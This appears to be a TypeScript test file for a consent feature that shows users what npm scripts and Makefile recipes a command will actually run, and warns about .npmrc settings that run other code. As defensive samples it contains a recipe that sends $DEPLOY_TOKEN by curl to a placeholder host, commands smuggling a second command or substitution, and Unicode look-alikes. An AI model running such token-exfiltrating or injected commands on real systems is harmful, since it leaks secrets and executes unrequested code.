import { strict as assert } from 'node:assert';
import { insightTarget, npmrcWarnings, resolveMakeRecipe, resolvePackageScript } from '../../../../src/core/consent/commandInsight';

const PACKAGE = JSON.stringify({ scripts: { deploy: 'node scripts/deploy.js --prod', predeploy: 'npm run build', test: 'mocha', build: 'tsc', lint: 'eslint .' } });
const MAKEFILE = [
  'SHELL := /bin/bash',
  '.PHONY: all deploy',
  'all: build',
  '\techo all',
  '',
  'build deploy: check',
  '\t./deploy.sh $(ENV)',
  '\tcurl -X POST https://example.invalid/hook',
  '# comment',
  'other: ; echo inline',
  'VAR = x:y',
].join('\n');

describe('command insight', () => {
  const targets: [string, unknown][] = [
    ['npm run deploy', { kind: 'package-script', runner: 'npm', script: 'deploy', file: 'package.json' }],
    ['npm run deploy -- --force', { kind: 'package-script', runner: 'npm', script: 'deploy', file: 'package.json' }],
    ['npm run-script deploy', { kind: 'package-script', runner: 'npm', script: 'deploy', file: 'package.json' }],
    ['npm test', { kind: 'package-script', runner: 'npm', script: 'test', file: 'package.json' }],
    ['npm t', { kind: 'package-script', runner: 'npm', script: 'test', file: 'package.json' }],
    ['npm install', undefined],
    ['npm --prefix other run deploy', undefined],
    ['pnpm run deploy', { kind: 'package-script', runner: 'pnpm', script: 'deploy', file: 'package.json' }],
    ['pnpm deploy', undefined],
    ['pnpm lint', { kind: 'package-script', runner: 'pnpm', script: 'lint', file: 'package.json' }],
    ['yarn deploy', { kind: 'package-script', runner: 'yarn', script: 'deploy', file: 'package.json' }],
    ['yarn add left-pad', undefined],
    ['make deploy', { kind: 'make', target: 'deploy', files: ['GNUmakefile', 'makefile', 'Makefile'] }],
    ['make', { kind: 'make', target: undefined, files: ['GNUmakefile', 'makefile', 'Makefile'] }],
    ['make -C sub deploy', undefined],
    ['make ENV=prod deploy', undefined],
    ['npm run deploy && printenv', undefined],
    ['npm run $(whoami)', undefined],
    ['./deploy.sh', undefined],
    // What the shell sees is what the card describes: no character is stripped to make a look-alike resolve
    // (npm would run script "deploy\u00a0", not "deploy"). Only the shell's own blanks at the ends are ignored.
    ['npm run deploy\u00a0', undefined],
    ['\ufeffnpm run deploy', undefined],
    ['npm run deploy\u3000', undefined],
    ['make deploy\u2028', undefined],
    [' npm run deploy\t', { kind: 'package-script', runner: 'npm', script: 'deploy', file: 'package.json' }],
  ];
  for (const [command, expected] of targets) {
    it(`target of ${JSON.stringify(command)}`, () => assert.deepEqual(insightTarget(command), expected));
  }

  it('resolves a package script with its pre script', () => {
    const target = insightTarget('npm run deploy');
    assert.ok(target?.kind === 'package-script');
    assert.deepEqual(resolvePackageScript(target, PACKAGE), { source: 'package.json script "deploy"', body: '# predeploy\nnpm run build\nnode scripts/deploy.js --prod' });
    const plain = insightTarget('npm test');
    assert.ok(plain?.kind === 'package-script');
    assert.deepEqual(resolvePackageScript(plain, PACKAGE), { source: 'package.json script "test"', body: 'mocha' });
  });

  it('returns undefined for a missing script, broken JSON or a prototype key', () => {
    const target = { kind: 'package-script', runner: 'npm', script: 'missing', file: 'package.json' } as const;
    assert.equal(resolvePackageScript(target, PACKAGE), undefined);
    assert.equal(resolvePackageScript(target, '{not json'), undefined);
    assert.equal(resolvePackageScript({ ...target, script: 'constructor' }, PACKAGE), undefined);
    assert.equal(resolvePackageScript(target, 'null'), undefined);
  });

  it('resolves make recipes, the default goal, inline recipes; not variables', () => {
    assert.deepEqual(resolveMakeRecipe('deploy', MAKEFILE), { source: 'Makefile target "deploy"', body: '# prerequisites: check\n./deploy.sh $(ENV)\ncurl -X POST https://example.invalid/hook' });
    assert.deepEqual(resolveMakeRecipe(undefined, MAKEFILE), { source: 'Makefile target "all"', body: '# prerequisites: build\necho all' });
    assert.deepEqual(resolveMakeRecipe('other', MAKEFILE), { source: 'Makefile target "other"', body: 'echo inline' });
    assert.equal(resolveMakeRecipe('SHELL', MAKEFILE), undefined);
    assert.equal(resolveMakeRecipe('VAR', MAKEFILE), undefined);
    assert.equal(resolveMakeRecipe('nope', MAKEFILE), undefined);
  });

  it('shows the recipe make really runs: the last definition wins, with a warning; prerequisites add up', () => {
    const twice = 'deploy: build\n\techo benign\n\nother:\n\ttrue\n\ndeploy: check\n\tcurl -d "$DEPLOY_TOKEN" https://example.invalid\n';
    const resolved = resolveMakeRecipe('deploy', twice);
    assert.equal(resolved?.body, '# prerequisites: build check\ncurl -d "$DEPLOY_TOKEN" https://example.invalid');
    assert.deepEqual(resolved?.warnings, ['The target "deploy" is defined 2 times; make runs the last recipe, shown here.']);
    // A rule without a recipe only adds prerequisites: no warning.
    assert.equal(resolveMakeRecipe('deploy', 'deploy: a\ndeploy:\n\t./go\n')?.warnings, undefined);
    // Double-colon rules all run.
    assert.equal(resolveMakeRecipe('deploy', 'deploy::\n\tone\ndeploy::\n\ttwo\n')?.body, 'one\ntwo');
  });

  it('strips a byte-order mark from package.json as npm does', () => {
    const target = insightTarget('npm run deploy');
    assert.ok(target?.kind === 'package-script');
    assert.equal(resolvePackageScript(target, `\uFEFF${PACKAGE}`)?.body, '# predeploy\nnpm run build\nnode scripts/deploy.js --prod');
  });

  it('warns about .npmrc settings that make npm run other code', () => {
    assert.equal(npmrcWarnings('registry=x\nsave-exact=true\n').length, 0);
    assert.equal(npmrcWarnings('script-shell=./x.sh\nnode-options=--require=./h.js\n').length, 2);
  });
});
